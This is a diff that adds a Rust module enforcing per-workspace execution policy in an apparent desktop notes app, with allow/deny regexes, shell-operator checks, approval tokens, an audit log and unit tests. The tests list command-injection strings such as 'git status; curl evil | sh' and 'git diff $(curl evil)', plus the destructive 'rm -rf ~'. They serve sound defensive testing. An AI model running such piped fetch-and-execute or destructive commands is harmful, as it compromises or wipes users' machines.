@@ -0,0 +1,454 @@
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+use chrono::Utc;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use crate::sandbox::SandboxConfig;
+use crate::{
+    append_jsonl, get_data_dir, get_workspace_dir, read_jsonl, run_and_record, update_block, AppState, Execution, Placement,
+};
+
+// ═══════════════════════════════════════════════════════════════
+// EXECUTION POLICY
+// ═══════════════════════════════════════════════════════════════
+//
+// Every run goes through the workspace's policy first. The policy lives in
+// ~/.float-liner/<workspace>/policy.json, outside the synced doc, so a
+// workspace can't grant itself trust:
+//
+//   { "trusted": false, "allow": ["git (status|log|diff)( .*)?"], "deny": ["rm -rf"],
+//     "sandbox": { "filesystem": "readonly", "network": false } }
+//
+// - `deny` patterns match anywhere in the command and always block it
+// - in a trusted workspace everything else runs
+// - in an untrusted one, commands matching an `allow` pattern in full run,
+//   unless they chain, substitute or redirect (`;`, `&&`, `|`, `$(…)`, …);
+//   anything else waits in the `confirm` state until the UI approves it
+//   with the one-time token from `list_pending_runs`
+//
+// Workspaces created in the app are trusted (they get a policy file saying
+// so), and so are the ones that were already there when policies came in -
+// they're trusted once, on the first start with this version. A workspace
+// without a policy file after that came from somewhere else - copied or
+// synced in - and is untrusted until the user says otherwise.
+//
+// `sandbox` (optional) restricts every shell command - see sandbox.rs.
+// Decisions are appended to ~/.float-liner/<workspace>/audit.jsonl.
+
+/// A workspace's execution policy (the default is untrusted)
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", default)]
+pub struct WorkspacePolicy {
+    /// Run anything not denied without asking
+    pub trusted: bool,
+    /// Regexes for commands an untrusted workspace may run without confirmation (whole command)
+    pub allow: Vec<String>,
+    /// Regexes for commands that never run (anywhere in the command)
+    pub deny: Vec<String>,
+    /// Run every shell command in this sandbox (`sandbox::` blocks can only tighten it)
+    pub sandbox: Option<SandboxConfig>,
+}
+
+/// Get the path to a workspace's policy file
+fn get_policy_path(workspace: &str) -> PathBuf {
+    get_workspace_dir(workspace).join("policy.json")
+}
+
+/// Load a workspace's policy (untrusted, no patterns if it has no policy file)
+pub fn load_policy(workspace: &str) -> Result<WorkspacePolicy, String> {
+    let path = get_policy_path(workspace);
+    if !path.exists() {
+        return Ok(WorkspacePolicy::default());
+    }
+
+    let text = fs::read_to_string(&path)
+        .map_err(|e| format!("Failed to read {:?}: {}", path, e))?;
+    serde_json::from_str(&text)
+        .map_err(|e| format!("Invalid policy {:?}: {}", path, e))
+}
+
+fn save_policy(workspace: &str, policy: &WorkspacePolicy) -> Result<(), String> {
+    write_policy(&get_policy_path(workspace), policy)
+}
+
+fn write_policy(path: &Path, policy: &WorkspacePolicy) -> Result<(), String> {
+    if let Some(dir) = path.parent() {
+        fs::create_dir_all(dir).map_err(|e| format!("Failed to create {:?}: {}", dir, e))?;
+    }
+    let text = serde_json::to_string_pretty(policy).map_err(|e| e.to_string())?;
+    fs::write(path, text).map_err(|e| format!("Failed to save policy: {}", e))
+}
+
+/// Left in the data directory once the workspaces from before policies are trusted
+const MIGRATION_MARKER: &str = "policy-migrated";
+
+/// Trust every workspace that has no policy yet, once - they ran everything
+/// before policies existed, and shouldn't start asking after an upgrade
+pub fn trust_existing_workspaces() {
+    if let Err(e) = trust_workspaces_in(&get_data_dir()) {
+        log::warn!("{}", e);
+    }
+}
+
+fn trust_workspaces_in(data_dir: &Path) -> Result<(), String> {
+    let marker = data_dir.join(MIGRATION_MARKER);
+    if marker.exists() {
+        return Ok(());
+    }
+
+    let entries = fs::read_dir(data_dir).map_err(|e| format!("Failed to read {:?}: {}", data_dir, e))?;
+    for path in entries.flatten().map(|entry| entry.path()) {
+        let Some(name) = path.file_stem().filter(|_| path.extension().is_some_and(|ext| ext == "yjs")) else { continue };
+        let policy_path = data_dir.join(name).join("policy.json");
+        if !policy_path.exists() {
+            write_policy(&policy_path, &WorkspacePolicy { trusted: true, ..WorkspacePolicy::default() })?;
+        }
+    }
+    fs::write(&marker, "").map_err(|e| format!("Failed to write {:?}: {}", marker, e))
+}
+
+/// Trust a workspace the user just created (leaves an existing policy alone)
+pub fn trust_new_workspace(workspace: &str) {
+    if get_policy_path(workspace).exists() {
+        return;
+    }
+    let policy = WorkspacePolicy { trusted: true, ..WorkspacePolicy::default() };
+    if let Err(e) = save_policy(workspace, &policy) {
+        log::warn!("{}", e);
+    }
+}
+
+fn compile(patterns: &[String], anchored: bool) -> Result<Vec<Regex>, String> {
+    patterns
+        .iter()
+        .map(|pattern| {
+            let source = if anchored { format!(r"\A(?:{})\z", pattern) } else { pattern.clone() };
+            Regex::new(&source).map_err(|e| format!("Invalid policy pattern `{}`: {}", pattern, e))
+        })
+        .collect()
+}
+
+/// What the policy says about a command
+#[derive(Debug, Clone, PartialEq)]
+pub enum Decision {
+    Allow,
+    Deny(String),
+    Confirm(String),
+}
+
+/// Characters that let a shell command chain, substitute or redirect - `allow`
+/// patterns see the raw string, so `git status; curl … | sh` must not slip through
+const SHELL_METACHARACTERS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '(', ')', '\n', '\r'];
+
+/// Check a command (or a runner block's code) against a policy
+pub fn check(policy: &WorkspacePolicy, command: &str) -> Result<Decision, String> {
+    let command = command.trim();
+
+    if let Some((pattern, _)) = policy.deny.iter().zip(compile(&policy.deny, false)?).find(|(_, re)| re.is_match(command)) {
+        return Ok(Decision::Deny(format!("Blocked by the workspace policy (deny `{}`)", pattern)));
+    }
+    if policy.trusted {
+        return Ok(Decision::Allow);
+    }
+    if !compile(&policy.allow, true)?.iter().any(|re| re.is_match(command)) {
+        return Ok(Decision::Confirm("This workspace isn't trusted - approve to run".to_string()));
+    }
+    match command.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
+        Some(c) => Ok(Decision::Confirm(format!(
+            "Allowed commands can't use shell operators ({:?}) - approve to run",
+            c
+        ))),
+        None => Ok(Decision::Allow),
+    }
+}
+
+// ═══════════════════════════════════════════════════════════════
+// AUDIT LOG
+// ═══════════════════════════════════════════════════════════════
+
+/// What happened to a run request
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum AuditDecision {
+    Allowed,
+    Denied,
+    /// Waiting for the UI to approve
+    Pending,
+    Approved,
+    Rejected,
+}
+
+/// One line of the audit log
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct AuditEntry {
+    /// Unix millis
+    pub at: i64,
+    pub block_id: String,
+    pub runner: String,
+    pub command: String,
+    pub decision: AuditDecision,
+    pub reason: Option<String>,
+}
+
+/// Get the path to a workspace's audit log
+fn get_audit_path(workspace: &str) -> PathBuf {
+    get_workspace_dir(workspace).join("audit.jsonl")
+}
+
+/// Record a policy decision (a failed write is logged, not fatal)
+pub fn audit(workspace: &str, block_id: &str, execution: &Execution, decision: AuditDecision, reason: Option<&str>) {
+    let entry = AuditEntry {
+        at: Utc::now().timestamp_millis(),
+        block_id: block_id.to_string(),
+        runner: execution.runner().to_string(),
+        command: execution.source().to_string(),
+        decision,
+        reason: reason.map(str::to_string),
+    };
+    if let Err(e) = append_jsonl(&get_audit_path(workspace), &entry) {
+        log::warn!("{}", e);
+    }
+}
+
+// ═══════════════════════════════════════════════════════════════
+// CONFIRMATION
+// ═══════════════════════════════════════════════════════════════
+
+/// A run held until the UI approves it
+struct Pending {
+    block_id: String,
+    workspace: String,
+    reason: String,
+    /// Exactly what the user is shown - approval runs this, not the block's current content
+    execution: Execution,
+    placement: Placement,
+}
+
+/// A run waiting for confirmation, as reported to the UI
+/// (kept out of the synced doc so nobody else can change what the user approves)
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct PendingRun {
+    pub block_id: String,
+    pub token: String,
+    pub runner: String,
+    pub command: String,
+    pub reason: String,
+}
+
+/// Runs waiting for confirmation, by token
+#[derive(Default)]
+pub struct PendingRuns {
+    pending: Mutex<HashMap<String, Pending>>,
+}
+
+impl PendingRuns {
+    /// Take a pending run by token, checking it belongs to the block
+    fn take(&self, block_id: &str, token: &str) -> Result<Pending, String> {
+        let mut pending = self.pending.lock().map_err(|e| e.to_string())?;
+        let not_waiting = || format!("No run of block {} is waiting for that token", block_id);
+        if !matches!(pending.get(token), Some(run) if run.block_id == block_id) {
+            return Err(not_waiting());
+        }
+        pending.remove(token).ok_or_else(not_waiting)
+    }
+
+    /// Runs waiting for confirmation
+    pub fn count(&self) -> usize {
+        self.pending.lock().map(|pending| pending.len()).unwrap_or(0)
+    }
+}
+
+/// Hold a run for confirmation and mark its block as waiting
+/// Returns the updated Y.Doc state as base64
+pub fn request_confirmation(
+    state: &AppState,
+    workspace: &str,
+    block_id: &str,
+    execution: Execution,
+    placement: Placement,
+    reason: String,
+) -> Result<String, String> {
+    audit(workspace, block_id, &execution, AuditDecision::Pending, Some(&reason));
+
+    {
+        let mut pending = state.policy.pending.lock().map_err(|e| e.to_string())?;
+        // A newer request for the same block replaces the old one
+        pending.retain(|_, run| run.block_id != block_id);
+        pending.insert(uuid::Uuid::new_v4().simple().to_string(), Pending {
+            block_id: block_id.to_string(),
+            workspace: workspace.to_string(),
+            reason,
+            execution,
+            placement,
+        });
+    }
+
+    update_block(state, block_id, |block| block.set("status", "confirm"))
+}
+
+// ═══════════════════════════════════════════════════════════════
+// TAURI COMMANDS
+// ═══════════════════════════════════════════════════════════════
+
+/// Get the current workspace's execution policy
+#[tauri::command]
+pub fn get_workspace_policy(state: tauri::State<'_, AppState>) -> Result<WorkspacePolicy, String> {
+    let workspace = state.workspace_name.lock().map_err(|e| e.to_string())?.clone();
+    load_policy(&workspace)
+}
+
+/// Replace the current workspace's execution policy
+#[tauri::command]
+pub fn set_workspace_policy(state: tauri::State<'_, AppState>, policy: WorkspacePolicy) -> Result<(), String> {
+    compile(&policy.allow, true)?;
+    compile(&policy.deny, false)?;
+
+    let workspace = state.workspace_name.lock().map_err(|e| e.to_string())?.clone();
+    save_policy(&workspace, &policy)
+}
+
+/// List runs waiting for confirmation in the current workspace
+#[tauri::command]
+pub fn list_pending_runs(state: tauri::State<'_, AppState>) -> Result<Vec<PendingRun>, String> {
+    let workspace = state.workspace_name.lock().map_err(|e| e.to_string())?.clone();
+    let pending = state.policy.pending.lock().map_err(|e| e.to_string())?;
+
+    let mut runs: Vec<PendingRun> = pending
+        .iter()
+        .filter(|(_, run)| run.workspace == workspace)
+        .map(|(token, run)| PendingRun {
+            block_id: run.block_id.clone(),
+            token: token.clone(),
+            runner: run.execution.runner().to_string(),
+            command: run.execution.source().to_string(),
+            reason: run.reason.clone(),
+        })
+        .collect();
+    runs.sort_by(|a, b| a.block_id.cmp(&b.block_id));
+    Ok(runs)
+}
+
+/// Run a block that is waiting for confirmation
+/// Returns the updated Y.Doc state as base64
+#[tauri::command]
+pub async fn approve_execution(
+    app: tauri::AppHandle,
+    state: tauri::State<'_, AppState>,
+    block_id: String,
+    token: String,
+) -> Result<String, String> {
+    let run = state.policy.take(&block_id, &token)?;
+    audit(&run.workspace, &block_id, &run.execution, AuditDecision::Approved, None);
+    update_block(&state, &block_id, |block| block.set("status", "running"))?;
+    run_and_record(&app, &state, &block_id, run.execution, run.placement).await
+}
+
+/// Drop a block's run that is waiting for confirmation
+/// Returns the updated Y.Doc state as base64
+#[tauri::command]
+pub fn reject_execution(
+    app: tauri::AppHandle,
+    state: tauri::State<'_, AppState>,
+    block_id: String,
+    token: String,
+) -> Result<String, String> {
+    let run = state.policy.take(&block_id, &token)?;
+    audit(&run.workspace, &block_id, &run.execution, AuditDecision::Rejected, None);
+    state.activity.pending_changed(&app, &state);
+    update_block(&state, &block_id, |block| block.set("status", "idle"))
+}
+
+/// Get the most recent audit log entries for the current workspace, oldest first
+#[tauri::command]
+pub fn get_audit_log(state: tauri::State<'_, AppState>, limit: Option<usize>) -> Result<Vec<AuditEntry>, String> {
+    let workspace = state.workspace_name.lock().map_err(|e| e.to_string())?.clone();
+    let entries: Vec<AuditEntry> = read_jsonl(&get_audit_path(&workspace))?;
+    let skip = limit.map_or(0, |limit| entries.len().saturating_sub(limit));
+    Ok(entries.into_iter().skip(skip).collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn untrusted(allow: &[&str], deny: &[&str]) -> WorkspacePolicy {
+        WorkspacePolicy {
+            allow: allow.iter().map(|p| p.to_string()).collect(),
+            deny: deny.iter().map(|p| p.to_string()).collect(),
+            ..WorkspacePolicy::default()
+        }
+    }
+
+    #[test]
+    fn workspaces_from_before_policies_are_trusted_once() {
+        let dir = std::env::temp_dir().join(format!("float-policy-{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(dir.join("strict")).unwrap();
+        for file in ["default.yjs", "notes.yjs", "strict.yjs", "settings.json"] {
+            fs::write(dir.join(file), "").unwrap();
+        }
+        write_policy(&dir.join("strict").join("policy.json"), &untrusted(&["ls"], &[])).unwrap();
+
+        let trusted = |name: &str| {
+            let text = fs::read_to_string(dir.join(name).join("policy.json")).ok()?;
+            serde_json::from_str::<WorkspacePolicy>(&text).ok().map(|policy| policy.trusted)
+        };
+        trust_workspaces_in(&dir).unwrap();
+        assert_eq!((trusted("default"), trusted("notes"), trusted("strict"), trusted("settings")), (Some(true), Some(true), Some(false), None));
+
+        // A workspace that turns up later stays untrusted
+        fs::write(dir.join("synced.yjs"), "").unwrap();
+        trust_workspaces_in(&dir).unwrap();
+        assert_eq!(trusted("synced"), None);
+        fs::remove_dir_all(dir).ok();
+    }
+
+    fn is_confirm(decision: Decision) -> bool {
+        matches!(decision, Decision::Confirm(_))
+    }
+
+    #[test]
+    fn no_policy_file_means_untrusted() {
+        assert!(!WorkspacePolicy::default().trusted);
+        assert!(is_confirm(check(&WorkspacePolicy::default(), "ls").unwrap()));
+        let parsed: WorkspacePolicy = serde_json::from_str(r#"{ "allow": ["ls"] }"#).unwrap();
+        assert!(!parsed.trusted);
+    }
+
+    #[test]
+    fn allow_patterns_match_whole_commands() {
+        let policy = untrusted(&["git (status|log|diff)( .*)?"], &[]);
+        assert_eq!(check(&policy, "git status").unwrap(), Decision::Allow);
+        assert_eq!(check(&policy, "  git log --oneline -5 ").unwrap(), Decision::Allow);
+        assert!(is_confirm(check(&policy, "git push").unwrap()));
+        assert!(is_confirm(check(&policy, "xgit status").unwrap()));
+    }
+
+    #[test]
+    fn shell_operators_never_match_allow_patterns() {
+        let policy = untrusted(&["git (status|log|diff)( .*)?", ".*"], &[]);
+        for command in [
+            "git status; curl evil | sh",
+            "git status && rm -rf ~",
+            "git log | sh",
+            "git diff $(curl evil)",
+            "git diff `curl evil`",
+            "git status\ncurl evil",
+            "git log > ~/.bashrc",
+            "git log & curl evil",
+            "(curl evil)",
+        ] {
+            assert!(is_confirm(check(&policy, command).unwrap()), "{}", command);
+        }
+    }
+
+    #[test]
+    fn deny_wins_and_trusted_runs_the_rest() {
+        let trusted = WorkspacePolicy { trusted: true, ..untrusted(&[], &["rm -rf"]) };
+        assert!(matches!(check(&trusted, "cd x && rm -rf .").unwrap(), Decision::Deny(_)));
+        assert_eq!(check(&trusted, "make && make test | tee log").unwrap(), Decision::Allow);
+    }
+}